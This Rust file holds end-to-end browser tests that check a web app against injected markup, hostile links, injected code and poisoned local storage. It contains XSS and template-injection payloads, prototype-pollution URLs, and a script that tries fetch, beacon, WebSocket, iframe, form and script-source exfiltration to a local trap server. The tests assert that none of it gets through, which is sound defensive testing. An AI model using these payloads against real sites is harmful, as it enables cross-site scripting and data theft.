//! Attackers: each threat of docs/security.md that needs a browser is tried here.

use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;
use limes_e2e::{Browser, InputMethod, Options, Person, both};
use serde_json::json;

/// Names that would do something if a program treated them as more than text.
const NAMES: [&str; 6] = [
    "<img src=x onerror=\"window.pwned=1\">",
    "<script>window.pwned=1</script>",
    "\"><svg onload=window.pwned=1>",
    "javascript:window.pwned=1",
    "{{constructor.constructor('window.pwned=1')()}}",
    "a\u{202e}txt.exe\u{2066}",
];

async fn untouched(page: &Browser) -> Result<()> {
    let seen: bool = page
        .see(
            "return window.pwned === undefined && !document.querySelector('main img, main svg[onload], main script')",
            &[],
        )
        .await?;
    assert!(seen, "a name was treated as more than text");
    Ok(())
}

#[test]
fn a_file_full_of_markup_stays_text() {
    both("security-file", Options::default(), async |page| {
        let person = Person::new(page, "en", InputMethod::Mouse);
        let services: Vec<_> = (1_u32..)
            .zip(NAMES)
            .map(|(id, name)| json!({ "id": id, "product": "azure-storage", "name": name, "answers": {} }))
            .collect();
        let access: Vec<_> = (100_u32..)
            .zip(NAMES)
            .map(|(id, name)| json!({ "id": id, "name": name, "answers": {}, "flows": {} }))
            .collect();
        let setup = json!({ "format": "limes-setup", "version": 1, "asOf": "2026-11-22", "boundary": { "kind": "eea" },
            "services": services, "access": access });
        let file = Path::new(env!("CARGO_TARGET_TMPDIR")).join("security-file.json");
        fs::write(&file, setup.to_string())?;
        page.open("").await?;
        page.test_id("import")
            .await?
            .send_keys(file.display().to_string())
            .await?;
        page.says(&person.text("ui-findings")).await?;
        for name in NAMES.iter().take(5) {
            page.becomes(&format!("whether “{name}” is read as it is"), true, async || {
                Ok(page.text().await?.contains(name))
            })
            .await?;
        }
        untouched(page).await?;
        for view in ["services", "people"] {
            page.open(&format!("#/questions/{view}")).await?;
            page.says(&person.text(&format!("section-{view}"))).await?;
            untouched(page).await?;
        }
        Ok(())
    });
}

#[test]
fn hostile_links_do_nothing() {
    both("security-links", Options::default(), async |page| {
        let person = Person::new(page, "en", InputMethod::Mouse);
        let links = [
            "?lang=%3Cscript%3Ewindow.pwned=1%3C/script%3E",
            "?embed&theme=%22onload=window.pwned=1&boundary=..%2F..&services=%3Cimg%20src=x%20onerror=window.pwned=1%3E",
            "?services=__proto__,constructor,toString&sections=__proto__",
            "#/rules/%3Cimg%20src=x%20onerror=window.pwned=1%3E",
            "#/rules?q=%3Cimg%20src=x%20onerror=window.pwned=1%3E&kind=__proto__&on=9999-99-99",
            "#/facts/__proto__",
            "#/constructor/",
            "#/result/s99999999999999999999",
            "#/questions/%00%ff",
            "#javascript:window.pwned=1",
            "#//example.org/",
            "#setup=AAAA%ff%%%",
        ];
        for link in links {
            page.open(link).await?;
            let there = async || {
                // Firefox reports what is still being loaded when the next page is opened
                let heading = "const loaded = performance.getEntriesByType('resource').filter(one => one.responseEnd);
                    return document.querySelectorAll('main h1').length === 1
                        && ['shared', 'open'].every(part => loaded.some(one => one.name.includes(`/code-${part}-`)))";
                page.becomes(&format!("whether {link} shows a view"), true, async || {
                    page.see(heading, &[]).await
                })
                .await
            };
            there().await?;
            page.web().refresh().await?;
            there().await?;
            untouched(page).await?;
        }
        // and the page is still the page
        page.open("?x#/").await?;
        page.says(&person.text("ui-start-title")).await.map(drop)
    });
}

/// A server that records the first bytes of every connection.
fn trap() -> Result<(String, Arc<Mutex<Vec<String>>>)> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = format!("127.0.0.1:{}", listener.local_addr()?.port());
    let caught = Arc::new(Mutex::new(Vec::new()));
    let notes = Arc::clone(&caught);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut said = [0; 200];
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            let length = stream.read(&mut said).unwrap_or(0);
            notes
                .lock()
                .unwrap()
                .push(String::from_utf8_lossy(&said[..length]).into_owned());
        }
    });
    Ok((address, caught))
}

/// What injected code would try. Each attempt reports its result: refused, or a way out.
const TRIES: &str = "const [address, done] = arguments, out = `http://${address}/`;
const broken = [];
// Firefox runs the script of a test in a separate scope; this is the window of the page
const own = window.wrappedJSObject ?? window;
addEventListener('securitypolicyviolation', event => broken.push(event.effectiveDirective));
const tries = {
    fetch: () => fetch(out, { mode: 'no-cors' }),
    beacon: () => { if (!navigator.sendBeacon(out, 'x')) throw 0; return 'sent'; },
    socket: () => new Promise((good, bad) => { const s = new WebSocket(`ws://${address}/`); s.onopen = good; s.onerror = bad; }),
    events: () => new Promise((good, bad) => { const s = new EventSource(out); s.onopen = good; s.onerror = bad; }),
    picture: () => new Promise((good, bad) => { const i = new Image(); i.onload = good; i.onerror = bad; i.src = out + 'p.png'; }),
    frame: () => { const f = document.createElement('iframe'); f.src = out; document.body.append(f); return wait(f); },
    style: () => new Promise((good, bad) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = good; l.onerror = bad; l.href = out; document.head.append(l); }),
    form: () => { const f = document.createElement('form'); f.action = out; f.target = '_blank'; document.body.append(f); f.submit(); return 'sent'; },
    base: () => { const b = document.createElement('base'); b.href = out; document.head.append(b); if (document.baseURI.startsWith(out)) return 'moved'; throw 0; },
    eval: () => own.eval('1'),
    Function: () => new own.Function('return 1')(),
    timer: () => new Promise((good, bad) => { window.ran = 0; setTimeout('window.ran = 1', 0); setTimeout(() => window.ran ? good() : bad(), 50); }),
    markup: () => new Promise((good, bad) => { const d = document.createElement('div'); document.body.append(d); window.ran = 0;
        setTimeout(() => { d.remove(); window.ran === 3 ? good() : bad(); }, 100); d.innerHTML = '<img src=data:, onerror=window.ran=3>'; }),
    script: () => { const s = document.createElement('script'); s.text = 'window.ran = 2'; document.head.append(s); if (window.ran !== 2) throw 0; },
    source: () => { const s = document.createElement('script'); s.src = out; document.head.append(s); return wait(s); },
    worker: () => new Promise((good, bad) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = good; w.onerror = bad; }),
    policy: () => { trustedTypes.createPolicy('mine', { createHTML: x => x }); },
};
const wait = e => new Promise((good, bad) => { e.onload = good; e.onerror = bad; setTimeout(bad, 500); });
(async () => {
    const ways = [];
    for (const [name, attempt] of Object.entries(tries)) {
        let way = true;
        try { await attempt(); } catch { way = false; }
        if (way) ways.push(name);
    }
    await new Promise(go => setTimeout(go, 300));
    document.querySelectorAll('iframe, form, base').forEach(e => e.remove());
    // Firefox has trusted types since version 148; before, the other rules keep injected code from running
    if (!own.trustedTypes) broken.push('require-trusted-types-for');
    done([ways.sort().join(' '), [...new Set(broken)].sort().join(' ')]);
})();";

#[test]
fn injected_code_finds_no_way_out() {
    both("security-injected", Options::default(), async |page| {
        let person = Person::new(page, "en", InputMethod::Mouse);
        person.example("microsoft-365-azure").await?;
        let (address, caught) = trap()?;
        let [ways, broken]: [String; 2] = page.web().execute_async(TRIES, vec![json!(address)]).await?.convert()?;
        // these three do not report failure to the script; the received data is checked below
        let open: Vec<&str> = ways
            .split(' ')
            .filter(|way| !["beacon", "form", "frame"].contains(way))
            .collect();
        assert_eq!(open.join(" "), "", "ways that were open; broken rules: {broken}");
        for rule in [
            "connect-src",
            "img-src",
            "frame-src",
            "form-action",
            "base-uri",
            "require-trusted-types-for",
        ] {
            assert!(broken.contains(rule), "{rule} did not hold anything up: {broken}");
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        // browsers may open a connection for an attempt that they then refuse, but send nothing over it
        let said: Vec<String> = caught
            .lock()
            .unwrap()
            .iter()
            .filter(|said| !said.is_empty())
            .cloned()
            .collect();
        assert_eq!(said, Vec::<String>::new(), "something came through");
        // what the browser says of refused attempts is wanted here
        page.console_errors().await?;
        page.forget_requests().await?;
        page.says(&person.text("ui-findings")).await.map(drop)
    });
}

#[test]
fn poisoned_storage_does_no_harm() {
    both("security-storage", Options::default(), async |page| {
        let setup = |name: &str| {
            json!({ "format": "limes-setup", "version": 1, "asOf": "2026-11-22", "boundary": { "kind": "eea" },
                "services": [{ "id": 1, "product": "azure-storage", "name": name, "answers": {} }] })
            .to_string()
        };
        let poisons = [
            "{".to_owned(),
            "null".to_owned(),
            "[".repeat(100_000),
            setup(NAMES[0]),
            setup(NAMES[1]),
        ];
        for poison in poisons {
            page.open("").await?;
            // the title is there before the program runs
            page.test_id("start-begin").await?;
            page.see::<u8>(
                "localStorage.setItem('limes-setup', arguments[0]); localStorage.setItem('limes-language', arguments[0]);
                 localStorage.setItem('limes-scheme', arguments[0]); return 1",
                &[json!(poison)],
            )
            .await?;
            page.open("?again#/result").await?;
            let there = "return document.querySelectorAll('main h1').length === 1";
            page.becomes("whether there is a result", true, async || page.see(there, &[]).await)
                .await?;
            untouched(page).await?;
            page.see::<u8>("localStorage.clear(); return 1", &[]).await?;
        }
        Ok(())
    });
}
